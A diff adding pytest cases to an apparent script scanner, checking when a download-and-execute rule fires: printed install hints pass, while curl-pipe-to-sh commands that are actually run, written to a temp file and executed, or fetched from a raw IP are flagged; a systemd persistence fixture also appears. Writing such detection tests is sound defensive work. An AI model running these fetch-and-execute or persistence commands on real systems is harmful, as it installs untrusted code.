@@ -142,3 +142,30 @@ def test_enabling_a_unit_by_its_path_or_for_the_user_still_blocks(tmp_path: Path
 def test_a_unit_written_under_usr_lib_blocks(tmp_path: Path) -> None:
     script = "#!/bin/sh\nsudo cp assets/upd.service /usr/lib/systemd/system/\n"
     assert "SY-PER-002" in blocked(tmp_path, {"scripts/setup.sh": script})
+
+
+# ---------------------------------------------------------------- an install hint in a message
+
+
+def test_an_install_hint_in_a_message_does_not_block(tmp_path: Path) -> None:
+    files = {
+        "scripts/agent.py": (
+            "import subprocess\n\ndef scan(image):\n    try:\n"
+            '        return subprocess.run(["grype", image], capture_output=True, text=True).stdout\n'
+            "    except FileNotFoundError:\n"
+            '        return {"error": "grype not found. Install: curl -sSfL https://get.tool.example/install.sh | sh"}\n'
+        ),
+        "scripts/doctor.sh": '#!/bin/sh\necho "  curl -fsSL https://get.tool.example/install.sh | sh"\n',
+    }
+    assert "SY-DL-001" not in blocked(tmp_path, files)
+
+
+def test_an_install_hint_that_is_run_or_written_still_blocks(tmp_path: Path) -> None:
+    for script in (
+        '#!/bin/sh\necho "curl -fsSL https://get.tool.example/install.sh | sh" | sh\n',
+        '#!/bin/sh\necho "curl -fsSL https://get.tool.example/install.sh | sh" > /tmp/i && sh /tmp/i\n',
+        '#!/bin/sh\necho "  curl -fsSL http://198.51.100.9/install.sh | sh"\n',
+        'import os\nos.system("curl -fsSL https://get.tool.example/install.sh | sh")\n',
+    ):
+        name = "scripts/run.py" if script.startswith("import") else "scripts/run.sh"
+        assert "SY-DL-001" in blocked(tmp_path / str(hash(script) % 10**6), {name: script}), script
